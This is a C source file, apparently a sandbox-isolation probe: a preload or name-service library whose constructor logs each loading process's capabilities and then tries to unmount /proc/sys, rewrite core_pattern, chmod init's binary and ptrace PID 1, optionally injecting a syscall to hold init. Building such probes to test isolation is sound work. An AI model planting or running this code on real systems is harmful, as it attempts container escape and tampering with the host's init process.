// A library that a guest plants: as a module of the name service switch, or in /etc/ld.so.preload.
//
// Whatever process loads it writes one line about itself to /tmp/evil/log: who it is, what it may do, and which attacks
// succeeded from there. Writes nothing but a value's own value, and changes the program's mode to one that it can keep.
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mount.h>
#include <sys/prctl.h>
#include <sys/ptrace.h>
#include <sys/stat.h>
#include <sys/user.h>
#include <sys/wait.h>
#include <unistd.h>

#define LOG "/tmp/evil/log"

static const char *said(int result) { return result >= 0 ? "done" : strerrorname_np(errno); }

static void status_field(const char *name, char *value, size_t size) {
    char line[256];
    FILE *file = fopen("/proc/self/status", "re");
    snprintf(value, size, "?");
    while (file && fgets(line, sizeof line, file)) {
        if (strncmp(line, name, strlen(name)) == 0 && line[strlen(name)] == ':') {
            snprintf(value, size, "%s", line + strlen(name) + 2);
            value[strcspn(value, "\t\n")] = 0;
        }
    }
    if (file) fclose(file);
}

// Writes what is there already.
static int rewrite(const char *path) {
    char value[256];
    int file = open(path, O_RDWR | O_CLOEXEC);
    if (file < 0) return -1;
    ssize_t length = read(file, value, sizeof value);
    lseek(file, 0, SEEK_SET);
    int result = length > 0 && write(file, value, length) == length ? 0 : -1;
    close(file);
    return result;
}

// The programs below /usr are a guest's own to change, and in a bare namespace the machine's, to be left alone.
static const char *change_program(const char *link) {
    char exe[512] = "";
    ssize_t length = readlink(link, exe, sizeof exe - 1);
    if (length < 0) return said(-1);
    return strncmp(exe, "/usr/", 5) == 0 ? "own" : said(chmod(link, 0711));
}

#ifdef __x86_64__
// Has the stopped process make one system call.
static long inject(pid_t pid, long number, long first, long second) {
    struct user_regs_struct before, now;
    if (ptrace(PTRACE_GETREGS, pid, 0, &before) < 0) return -1;
    now = before;
    now.orig_rax = -1;
    now.rax = number;
    now.rdi = first;
    now.rsi = second;
    // It waits in a system call: the instruction is just behind it.
    now.rip -= 2;
    ptrace(PTRACE_SETREGS, pid, 0, &now);
    // A signal may stop it first; it is dropped.
    for (int tries = 0, status = 0; tries < 10 && !(WIFSTOPPED(status) && status >> 8 == SIGTRAP); tries++) {
        ptrace(PTRACE_SINGLESTEP, pid, 0, 0);
        waitpid(pid, &status, __WALL);
    }
    ptrace(PTRACE_GETREGS, pid, 0, &now);
    ptrace(PTRACE_SETREGS, pid, 0, &before);
    return now.rax;
}

// Frees the first process from its parent's death and holds it, so that the whole instance stays.
static void take_over_first_process(void) {
    if (fork() != 0) return;
    setsid();
    for (int number = 0; number < 64; number++) close(number);
    int result = ptrace(PTRACE_SEIZE, 1, 0, 0);
    if (result == 0) {
        ptrace(PTRACE_INTERRUPT, 1, 0, 0);
        waitpid(1, NULL, __WALL);
        result = inject(1, 157, PR_SET_PDEATHSIG, 0);
    }
    int log = open("/tmp/evil/taken", O_WRONLY | O_CREAT | O_APPEND, 0666);
    dprintf(log, "%s\n", said(result));
    close(log);
    if (result == 0)
        for (;;) pause();
    _exit(0);
}
#else
static void take_over_first_process(void) {}
#endif

__attribute__((constructor)) static void arrive(void) {
    char exe[512] = "?", comm[32] = "?", effective[32], permitted[32], bounding[32], uid[32], seccomp[32];
    int log = open(LOG, O_WRONLY | O_APPEND | O_CREAT | O_CLOEXEC, 0666);
    if (log < 0) return;
    ssize_t length = readlink("/proc/self/exe", exe, sizeof exe - 1);
    exe[length > 0 ? length : 0] = 0;
    prctl(PR_GET_NAME, comm);
    status_field("CapEff", effective, sizeof effective);
    status_field("CapPrm", permitted, sizeof permitted);
    status_field("CapBnd", bounding, sizeof bounding);
    status_field("Uid", uid, sizeof uid);
    status_field("Seccomp", seccomp, sizeof seccomp);
    int unmounted = umount2("/proc/sys", MNT_DETACH);
    const char *unmount_said = said(unmounted);
    const char *pattern_said = said(rewrite("/proc/sys/kernel/core_pattern"));
    const char *first_said = change_program("/proc/1/exe");
    const char *own_said = change_program("/proc/self/exe");
    const char *trace_said = "not tried";
    if (getpid() != 1) {
        pid_t child = fork();
        if (child == 0) _exit(ptrace(PTRACE_SEIZE, 1, 0, 0) < 0 ? errno : 0);
        int status = 0;
        waitpid(child, &status, 0);
        errno = WEXITSTATUS(status);
        trace_said = child > 0 && WIFEXITED(status) ? said(errno ? -1 : 0) : "?";
    }
    dprintf(log,
            "exe=%s|comm=%s|uid=%s|effective=%s|permitted=%s|bounding=%s|seccomp=%s|unmount=%s|core_pattern=%s|first=%s|own=%s|"
            "trace=%s\n",
            exe, comm, uid, effective, permitted, bounding, seccomp, unmount_said, pattern_said, first_said, own_said, trace_said);
    close(log);
    if (access("/tmp/evil/take-over", F_OK) == 0) take_over_first_process();
}
